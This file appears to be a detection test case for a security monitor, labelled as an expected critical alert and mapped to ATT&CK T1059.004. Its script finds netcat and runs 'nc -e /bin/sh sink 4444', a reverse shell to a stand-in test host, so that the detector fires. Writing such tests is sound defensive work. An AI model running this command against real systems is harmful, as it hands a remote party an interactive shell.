# id: N02b
# title: netcat connects out and starts a shell
# expect: alert
# severity: critical
# kinds: process, network
# attck: T1059.004
# image: tools
# launch: app
# peers: sink:4444

netcat=$(command -v nc.traditional || command -v nc)
timeout 5 "$netcat" -e /bin/sh sink 4444
exit 0
